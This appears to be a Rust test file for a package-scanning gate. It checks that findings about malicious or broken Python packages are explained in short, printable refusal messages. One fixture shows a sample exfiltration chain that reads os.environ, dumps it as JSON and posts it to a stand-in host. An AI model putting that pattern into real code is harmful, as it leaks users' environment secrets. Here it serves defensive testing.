//! What is said of findings over observations, whatever an archive says.

use proptest::prelude::*;

use super::*;
use crate::explain;
use crate::inspection::Step;

fn with_chain() -> Vec<Observation> {
    let place = |line| crate::inspection::Place {
        file: "demo/__init__.py".into(),
        line,
        column: 1,
        layer: 0,
    };
    let step = |line, text: &str| Step {
        place: place(line),
        text: text.to_owned(),
    };
    let steps = vec![
        step(1, "os.environ"),
        step(2, "json.dumps(…)"),
        step(3, "requests.post('https://collect.invalid', data=…)"),
    ];
    let chained = Observation {
        chain: steps,
        ..worst("NET-001")
    };
    vec![
        suspicious("EXE-001"),
        chained,
        seen("PRC-005", Severity::Medium, Context::Import, 90),
    ]
}

#[test]
fn a_refusal_names_the_worst_with_its_chain_and_fits_one_line() {
    let decision = under("", &outside(&with_chain()));
    let url = "https://portcullis.example/why/demo";
    let phrase = explain::reason_phrase(&decision, url);
    // The policy is part of the id, and a release with another rule has another one.
    insta::assert_snapshot!(phrase.replace(&decision.id(), "decision"));
    insta::assert_snapshot!(explain::detail(&decision, url));
    assert_eq!(decision.findings()[0].about.len(), 3);
}

#[test]
fn every_kind_of_finding_says_what_it_is_and_what_to_do() {
    let mut told = String::new();
    for case in [
        outside(&[suspicious("EXE-001")]),
        outside(&[left_out("ENG-002"), suspicious("EXE-001")]),
        not_inspected(),
        outside(&[worst("ARC-003")]),
        outside(&[left_out("ARC-012")]),
        Case::upstream("demo").inspected(Inspected {
            complete: false,
            ..inspected(&[])
        }),
    ] {
        for rule in [&MaliciousCode as &dyn Rule, &BrokenArchive] {
            let decision = decide(rule, ON, &case);
            let Some(finding) = decision.decisive() else {
                continue;
            };
            told.push_str(&format!(
                "{}\n  {:?}\n  {}\n  {:?}\n",
                decision.sentence(),
                finding.evidence,
                finding.remedy,
                finding.about
            ));
        }
    }
    insta::assert_snapshot!(told);
}

fn any_observation() -> impl Strategy<Value = Observation> {
    let severity = prop::sample::select(Severity::ALL.to_vec());
    let context = prop::sample::select(Context::ALL.to_vec());
    let rule = prop_oneof![
        prop::sample::select(crate::inspection::INSPECTION_RULES.to_vec()).prop_map(str::to_owned),
        any::<String>(),
    ];
    let texts = (
        any::<String>(),
        any::<String>(),
        ".{0,400}",
        any::<String>(),
    );
    let numbers = (any::<u32>(), any::<u8>(), any::<u8>(), 0..20usize);
    (rule, severity, context, texts, numbers).prop_map(
        |(rule, severity, context, (file, message, step, hash), (line, layer, sure, steps))| {
            let place = crate::inspection::Place {
                file: file.as_str().into(),
                line,
                column: 1,
                layer,
            };
            Observation {
                rule: rule.into(),
                severity,
                confidence: Confidence::of(sure),
                file: file.into(),
                line,
                column: 1,
                layer,
                context,
                message,
                chain: vec![Step { place, text: step }; steps],
                code_hash: hash,
            }
        },
    )
}

proptest! {
    #[test]
    fn whatever_an_archive_says_is_told_in_one_printable_line(
        observations in prop::collection::vec(any_observation(), 0..8),
        why in any::<String>(),
    ) {
        let unknown = Case::upstream("demo").content(ContentFacts {
            inspection: Knowledge::not_learned(why),
            ..ContentFacts::default()
        });
        for case in [outside(&observations), unknown] {
            for rule in [&MaliciousCode as &dyn Rule, &BrokenArchive] {
                let decision = decide(rule, ON, &case);
                let url = "https://portcullis.example/why/demo";
                let phrase = explain::reason_phrase(&decision, url);
                prop_assert!(phrase.len() <= explain::MAX_REASON_PHRASE, "{phrase}");
                prop_assert!(phrase.ends_with(url), "{phrase}");
                let told = explain::detail(&decision, url);
                prop_assert!(!told.chars().any(char::is_control), "{told:?}");
                let _ = explain::problem(&decision, url, 403);
                let _ = explain::decision(&decision);
                for finding in decision.findings() {
                    prop_assert!(finding.message.chars().count() < 320, "{}", finding.message);
                }
            }
        }
    }

    #[test]
    fn more_findings_never_weigh_less(
        observations in prop::collection::vec(any_observation(), 1..6),
    ) {
        let few = code("", &outside(&observations[1..]));
        let all = code("", &outside(&observations));
        prop_assert!(few <= all, "{few} {all}");
    }
}
